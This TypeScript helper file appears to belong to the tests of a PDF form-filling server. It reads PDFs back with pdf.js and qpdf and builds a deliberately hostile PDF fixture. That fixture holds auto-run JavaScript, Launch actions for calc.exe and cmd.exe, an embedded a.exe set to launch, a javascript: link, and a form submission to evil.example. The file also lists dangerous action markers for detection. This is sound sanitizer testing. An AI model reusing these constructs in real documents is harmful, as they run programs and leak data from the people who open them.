/**
 * Helpers of the PDF tests: the shared fixtures, and pdf.js (a reader independent of the one the server fills with)
 * to read back what a PDF holds.
 */
import { readFileSync } from 'node:fs';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import * as pdfjs from 'pdfjs-dist/legacy/build/pdf.mjs';
import { toolOutput } from './tools';

/** The folder of the real-world PDF fixtures. */
export const PDF_FIXTURES = fileURLToPath(new URL('../fixtures/pdfs/', import.meta.url));

/** A fixture's bytes as a plain Uint8Array. */
export function fixture(name: string): Uint8Array {
  const buffer = readFileSync(PDF_FIXTURES + name);
  return new Uint8Array(buffer.buffer.slice(buffer.byteOffset, buffer.byteOffset + buffer.byteLength));
}

/** What pdf.js reads in a PDF: the value of each field (by name), the text of each page. */
export interface PdfContents {
  values: Record<string, unknown>;
  fieldNames: string[];
  pageTexts: string[];
}

/** Reads a PDF with pdf.js. */
export async function readWithPdfJs(bytes: Uint8Array): Promise<PdfContents> {
  const doc = await pdfjs.getDocument({ data: bytes.slice(), isEvalSupported: false, verbosity: 0 }).promise;
  try {
    const objects = ((await doc.getFieldObjects()) ?? {}) as Record<string, { value?: unknown; type?: string }[]>;
    const values: Record<string, unknown> = {};
    for (const [name, widgets] of Object.entries(objects)) {
      // Radio groups list one object per button; the group's value is the one set on any of them.
      const withValue = widgets.find((w) => w.value !== undefined && w.value !== '' && w.value !== 'Off') ?? widgets[0];
      values[name] = withValue?.value;
    }
    const pageTexts: string[] = [];
    for (let i = 1; i <= doc.numPages; i++) {
      const page = await doc.getPage(i);
      const text = await page.getTextContent();
      pageTexts.push(text.items.map((item) => ('str' in item ? item.str : '')).join(' '));
    }
    return { values, fieldNames: Object.keys(objects), pageTexts };
  } finally {
    await doc.destroy();
  }
}

const latin1 = (text: string) => new Uint8Array(Buffer.from(text, 'latin1'));

/** A PDF of `objects` (numbered from 1, the catalog first) with a correct cross-reference table. */
export function buildPdf(objects: readonly string[]): Uint8Array {
  let text = '%PDF-1.7\n';
  const offsets: number[] = [];
  objects.forEach((body, i) => {
    offsets.push(text.length);
    text += `${i + 1} 0 obj\n${body}\nendobj\n`;
  });
  const xrefAt = text.length;
  text += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`).join('')}`;
  text += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xrefAt}\n%%EOF\n`;
  return latin1(text);
}

/**
 * A one-page form whose every place holds an action that runs or launches something: the document's opening and
 * events, named scripts and an attached file, the page's open event, a bookmark, the field's keystroke script and
 * click action (a SubmitForm chained to a Launch), a `javascript:` link, an ImportData link, a file attachment
 * annotation; plus a kept `https:` link and a value in the field ("Bar").
 */
export function hostilePdf(): Uint8Array {
  const js = (code: string) => `<< /S /JavaScript /JS (${code}) >>`;
  return buildPdf([
    `<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [4 0 R] >> /OpenAction ${js('app.alert\\(1\\)')} /AA << /WC ${js('app.alert\\(2\\)')} >> /Names << /JavaScript << /Names [(boot) 5 0 R] >> /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >> /Outlines 7 0 R >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /AA << /O << /S /Launch /F (calc.exe) >> >> /Annots [4 0 R 9 0 R 10 0 R 11 0 R 12 0 R] >>`,
    `<< /Type /Annot /Subtype /Widget /FT /Tx /T (Name_Last) /TU (Last name) /V (Bar) /DV (Bar) /Rect [50 700 250 720] /P 3 0 R /AA << /K ${js('AFDate_KeystrokeEx\\("mm/dd/yyyy"\\)')} >> /A << /S /SubmitForm /F (https://evil.example/collect) /Next << /S /Launch /F (cmd.exe) >> >> >>`,
    js('this.exportDataObject\\({cName: "a.exe", nLaunch: 2}\\)'),
    '<< /Type /Filespec /F (a.exe) >>',
    '<< /Type /Outlines /First 8 0 R /Last 8 0 R /Count 1 >>',
    '<< /Title (Start) /Parent 7 0 R /A << /S /Launch /F (calc.exe) >> >>',
    '<< /Type /Annot /Subtype /Link /Rect [50 600 250 620] /A << /S /URI /URI (javascript:alert\\(3\\)) >> >>',
    '<< /Type /Annot /Subtype /Link /Rect [50 560 250 580] /A << /S /URI /URI (https://example.org/help) >> >>',
    '<< /Type /Annot /Subtype /Link /Rect [50 520 250 540] /A << /S /ImportData /F (data.fdf) >> >>',
    '<< /Type /Annot /Subtype /FileAttachment /Rect [50 480 70 500] /FS 6 0 R >>',
  ]);
}

/** What qpdf (an independent reader) finds in a PDF: the fields holding a value or a default value, by name. */
export async function qpdfFieldValues(pdf: Uint8Array): Promise<Record<string, string>> {
  const dir = await mkdtemp(join(tmpdir(), 'qpdf-'));
  try {
    await writeFile(join(dir, 'doc.pdf'), pdf);
    const json = JSON.parse((await toolOutput('qpdf', ['--warning-exit-0', '--json', join(dir, 'doc.pdf')])).toString('utf8')) as {
      acroform?: { fields?: { fullname: string; value?: unknown; defaultvalue?: unknown }[] };
    };
    const empty = (v: unknown) => v === undefined || v === null || v === '' || v === 'u:' || v === '/Off' || (Array.isArray(v) && v.length === 0);
    const out: Record<string, string> = {};
    for (const field of json.acroform?.fields ?? []) {
      if (!empty(field.value)) out[field.fullname] = JSON.stringify(field.value);
      else if (!empty(field.defaultvalue)) out[field.fullname] = `default ${JSON.stringify(field.defaultvalue)}`;
    }
    return out;
  } finally {
    await rm(dir, { recursive: true, force: true });
  }
}

/** Markers of actions that run or launch something, found in the uncompressed text of a PDF (`qpdf --qdf`). */
export const ACTION_MARKERS = ['/JS', '/JavaScript', '/Launch', '/SubmitForm', '/ImportData', '/EmbeddedFiles', '/FileAttachment', '/XFA', 'javascript:'] as const;

/** The {@link ACTION_MARKERS} in a PDF, with `pdfinfo`'s "JavaScript:" line. */
export async function actionMarkers(pdf: Uint8Array): Promise<{ markers: string[]; pdfinfoJavaScript: string }> {
  const dir = await mkdtemp(join(tmpdir(), 'qpdf-'));
  try {
    await writeFile(join(dir, 'doc.pdf'), pdf);
    const qdf = (await toolOutput('qpdf', ['--warning-exit-0', '--qdf', '--object-streams=disable', join(dir, 'doc.pdf'), '-'])).toString('latin1');
    const info = (await toolOutput('pdfinfo', [join(dir, 'doc.pdf')])).toString('utf8');
    return {
      markers: ACTION_MARKERS.filter((m) => qdf.includes(m)),
      pdfinfoJavaScript: /JavaScript:\s*(\S+)/.exec(info)?.[1] ?? '',
    };
  } finally {
    await rm(dir, { recursive: true, force: true });
  }
}
